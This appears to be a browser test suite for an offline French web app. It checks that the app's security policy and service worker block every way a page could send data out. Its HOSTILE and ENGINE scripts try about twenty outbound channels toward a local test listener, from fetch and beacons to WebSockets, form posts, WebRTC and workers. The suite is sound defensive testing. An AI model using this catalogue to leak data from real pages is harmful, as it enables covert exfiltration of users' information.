"""Nothing goes out: each means is tried for good, and counted where it would arrive."""

import json
import re

import pytest

from browser.journey import READY_MS, WORK_MS, Journey, csv, person, plain
from browser.listening import Copy, ear

pytestmark = pytest.mark.browser

PEOPLE = csv(person(1), person(2))
# What a page that wants to send something out would do, by every means at hand.
HOSTILE = """async (target) => {
  const ended = {};
  const note = async (name, attempt) => {
    try { await attempt(); ended[name] = "done"; } catch (error) { ended[name] = error.name; }
  };
  const node = (tag, fields) => new Promise((resolve, reject) => {
    const made = Object.assign(document.createElement(tag), fields);
    made.onload = resolve;
    made.onerror = () => reject(new Error("error"));
    document.body.append(made);
    setTimeout(resolve, 1500);
  });
  const at = (name) => `${target}/${name}?donnee=MARCHAND`;
  await note("fetch", () => fetch(at("fetch"), { method: "POST", body: "x", mode: "no-cors" }));
  await note("keepalive", () => fetch(at("keepalive"), { keepalive: true, mode: "no-cors" }));
  await note("xhr", () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onerror = () => reject(new Error("error"));
    request.onload = resolve;
    request.open("POST", at("xhr"));
    request.send("x");
  }));
  await note("beacon", () => navigator.sendBeacon(at("beacon"), "x"));
  await note("websocket", () => new Promise((resolve) => {
    const socket = new WebSocket(at("ws").replace("http", "ws"));
    socket.onerror = socket.onopen = resolve;
  }));
  await note("eventsource", () => new Promise((resolve) => {
    const source = new EventSource(at("es"));
    source.onerror = () => { source.close(); resolve(); };
  }));
  await note("image", () => node("img", { src: at("img") }));
  await note("script", () => node("script", { src: at("script") }));
  await note("style", () => node("link", { rel: "stylesheet", href: at("style") }));
  await note("prefetch", () => node("link", { rel: "prefetch", href: at("prefetch") }));
  await note("preload", () => node("link", { rel: "preload", as: "fetch", href: at("preload") }));
  await note("frame", () => node("iframe", { src: at("frame") }));
  await note("object", () => node("object", { data: at("object") }));
  await note("media", () => node("video", { src: at("media"), preload: "auto" }));
  await note("import", () => import(at("import")));
  await note("font", () => new FontFace("x", `url(${at("font")})`).load());
  await note("form", () => {
    const form = document.createElement("form");
    Object.assign(form, { action: at("form"), method: "post", target: "cadre" });
    const frame = Object.assign(document.createElement("iframe"), { name: "cadre" });
    document.body.append(frame, form);
    form.submit();
  });
  await note("ping", () => {
    const link = Object.assign(document.createElement("a"), { href: "#x", ping: at("ping") });
    document.body.append(link);
    link.click();
  });
  await note("webrtc", async () => {
    const host = new URL(target).host;
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription();
  });
  await note("worker", () => new Promise((resolve, reject) => {
    const code = `fetch("${at("worker")}", { mode: "no-cors" })
      .then(() => postMessage("done"), () => postMessage("refused"))`;
    const made = new Worker(URL.createObjectURL(new Blob([code])));
    made.onmessage = ({ data }) => data === "done" ? resolve() : reject(new Error(data));
    made.onerror = () => reject(new Error("error"));
  }));
  await new Promise((resolve) => setTimeout(resolve, 1000));
  return ended;
}"""
ENGINE = """async (target) => {
  const told = [];
  try { await fetch(`${target}/moteur`, { mode: "no-cors" }); told.push("fetch"); } catch {}
  try { importScripts(`${target}/moteur-import`); told.push("import"); } catch {}
  try { await import(`${target}/moteur-module`); told.push("module"); } catch {}
  try {
    const request = new XMLHttpRequest();
    request.open("POST", `${target}/moteur-xhr`, false);
    request.send("x");
    told.push("xhr");
  } catch {}
  new WebSocket(`${target}/moteur-ws`.replace("http", "ws"));
  new EventSource(`${target}/moteur-es`);
  await new Promise((resolve) => setTimeout(resolve, 1000));
  return told;
}"""
# By a timer: what the test's own tools call at once, the browser lets make functions from text.
FROM_TEXT = """() => new Promise((done) => setTimeout(() => {
  const told = [];
  for (const make of [() => eval("1"), () => Function("return 1")()]) {
    try { make(); told.push("made"); } catch (error) { told.push(error.name); }
  }
  done(told);
}))"""
BARE = """<meta http-equiv="Content-Security-Policy" content="[^"]+">"""


@pytest.fixture
def visit(keeping, tmp_path, dist):
    """Give a copy of the page, opened under its service worker."""
    with Copy(dist, tmp_path / "copie") as copy, keeping.context() as context:
        page = context.new_page()
        page.goto(copy.address)
        yield Journey(page).ready(), copy


def ready_offline(journey):
    journey.page.wait_for_selector("#hors-ligne[data-state=ready]", timeout=READY_MS)
    return journey


def test_a_page_that_wants_to_send_something_out_fails_by_each_means(visit):
    journey, _ = visit
    ready_offline(journey)
    with ear() as listening:
        ended = journey.page.evaluate(HOSTILE, listening.address)
        assert listening.heard == []
        assert ended["webrtc"] != "done"
        assert ended["fetch"] == ended["worker"] == "TypeError" or ended["worker"] == "Error"
        (worker,) = journey.page.workers[:1]
        assert worker.evaluate(ENGINE, listening.address) == []
        for place in (journey.page, worker):
            assert place.evaluate(FROM_TEXT) == ["EvalError", "EvalError"]
        assert listening.heard == []


def test_the_same_page_without_its_guards_is_heard(warm, tmp_path, dist):
    """The proof that the ear hears: the same attempts, with neither policy nor service worker."""
    with Copy(dist, tmp_path / "nue") as copy, ear() as listening:
        page = copy.dist / "index.html"
        page.write_text(re.sub(BARE, "", page.read_text(encoding="utf-8")), encoding="utf-8")
        (copy.dist / "app/main.py").write_text(
            (copy.dist / "app/main.py")
            .read_text(encoding="utf-8")
            .replace("sealed.close_doors()\n", ""),
            encoding="utf-8",
        )
        copy.fields = {}
        with warm.context() as context:
            opened = context.new_page()
            opened.goto(copy.address)
            Journey(opened).ready()
            opened.evaluate(HOSTILE, listening.address)
            is_heard(listening.heard)
            opened.evaluate("RTCPeerConnection = undefined")
            tried(Journey(opened), listening.address)
            assert "essais sont passés" in plain(opened.locator("#titre-essais").inner_text())


def is_heard(lines):
    """See that each attempt arrived."""
    paths = {line.split(" ")[1].partition("?")[0] for line in lines if " " in line}
    assert {"/fetch", "/xhr", "/beacon", "/ws", "/es", "/img", "/script", "/style"} <= paths
    assert {"/frame", "/media", "/import", "/form", "/worker", "/keepalive", "/ping"} <= paths
    assert "UDP" in lines


def tried(journey, address):
    """Run the page's own test towards an address."""
    page = journey.page
    page.locator("#confidentialite summary").click()
    journey.press("Tester l’étanchéité")
    journey.waits_for_title("Tester l’étanchéité")
    page.locator("#adresse-essai").fill(address)
    journey.press("Lancer les essais")
    page.locator("#titre-essais").wait_for(timeout=WORK_MS * 2)


def test_the_page_tries_for_itself_shows_each_refusal_and_puts_it_in_the_report(visit):
    journey, _ = visit
    ready_offline(journey).to_verdict("liste.csv", PEOPLE)
    with ear() as listening:
        tried(journey, listening.address)
        assert listening.heard == []
    page = journey.page
    rows = page.locator("#essais tbody tr")
    assert rows.count() == 18
    assert page.locator("#essais .mark-ok").count() == 18 + 1
    assert plain(page.locator("#titre-essais").inner_text()).startswith("18 essais, tous bloqués")
    assert page.evaluate("document.activeElement.id") == "titre-essais"
    journey.press("‹ Revenir")
    page.wait_for_selector(".banner", timeout=WORK_MS)
    page.locator("#rapport > summary").click()
    _, report = journey.download("Données (JSON)")
    told = json.loads(report)["sealing"]
    assert told["level"] == "ok"
    assert {row["where"] for row in told["rows"]} == {"La page", "Le moteur"}


def test_the_attempts_can_be_given_up(visit):
    journey, _ = visit
    page = journey.page
    page.locator("#confidentialite summary").click()
    journey.press("Tester l’étanchéité")
    journey.press("Lancer les essais")
    journey.press("Annuler")
    page.wait_for_function("() => document.getElementById('annonce').textContent === 'Annulé.'")
    journey.waits_for_title("Tester l’étanchéité")
    assert page.locator("#titre-essais").count() == 0
    journey.ready().press("Lancer les essais")
    page.locator("#titre-essais").wait_for(timeout=WORK_MS)


THROWING = """
for (const name of ["WebSocket", "EventSource", "XMLHttpRequest"]) {
  window[name] = class { constructor() { throw new DOMException("no", "SecurityError"); } };
}
HTMLFormElement.prototype.submit = () => { throw new DOMException("no", "SecurityError"); };
window.fetch = (fetch => (url, ...rest) => String(url).includes("essai-fetch")
  ? new Promise(() => {}) : fetch(url, ...rest))(window.fetch);
"""


def test_the_attempts_end_where_the_browser_throws_or_stays_silent(blank, server):
    page = blank
    page.add_init_script(THROWING)
    page.goto(server)
    journey = Journey(page).ready()
    tried(journey, "https://exemple.invalid")
    verdicts = {
        plain(row.locator("th").inner_text()): plain(row.locator("td").nth(1).inner_text())
        for row in page.locator("#essais tbody tr").all()[:13]
    }
    assert len(verdicts) == 13
    assert verdicts["Requête (fetch)"] == "Non prouvé"
    assert verdicts["Liaison continue (WebSocket)"] == "Bloqué"
    assert verdicts["Flux d'événements (EventSource)"] == "Bloqué"
    assert verdicts["Envoi d'un formulaire"] == "Non prouvé"
    assert "Passé" not in verdicts.values()


def test_an_address_of_this_very_site_does_not_serve(visit):
    journey, copy = visit
    page = journey.page
    page.locator("#confidentialite summary").click()
    journey.press("Tester l’étanchéité")
    page.locator("#adresse-essai").fill(copy.address)
    journey.press("Lancer les essais")
    assert "Cette adresse ne convient pas" in journey.alert()


def test_what_is_no_file_of_the_build_is_refused_to_page_and_engine(visit):
    journey, copy = visit
    ready_offline(journey)
    (copy.dist / "secret.txt").write_text("x")
    copy.asked.clear()
    ask = """async (names) => {
      const told = [];
      for (const name of names) {
        try { told.push((await fetch(name)).status); } catch (error) { told.push(error.name); }
      }
      return told;
    }"""
    names = ["secret.txt", "manifest.json", "sw.js", "index.html?nom=MARCHAND", "app/main.py"]
    urls = [copy.address + name for name in names]
    expected = ["TypeError", "TypeError", "TypeError", "TypeError", 200]
    assert journey.page.evaluate(ask, urls) == expected
    assert journey.page.workers[0].evaluate(ask, urls) == expected
    post = "(url) => fetch(url, {method: 'POST', body: 'x'}).then(() => 'sent', (e) => e.name)"
    assert journey.page.evaluate(post, urls[-1]) == "TypeError"
    assert [path for path in copy.asked if path != "/sw.js"] == []
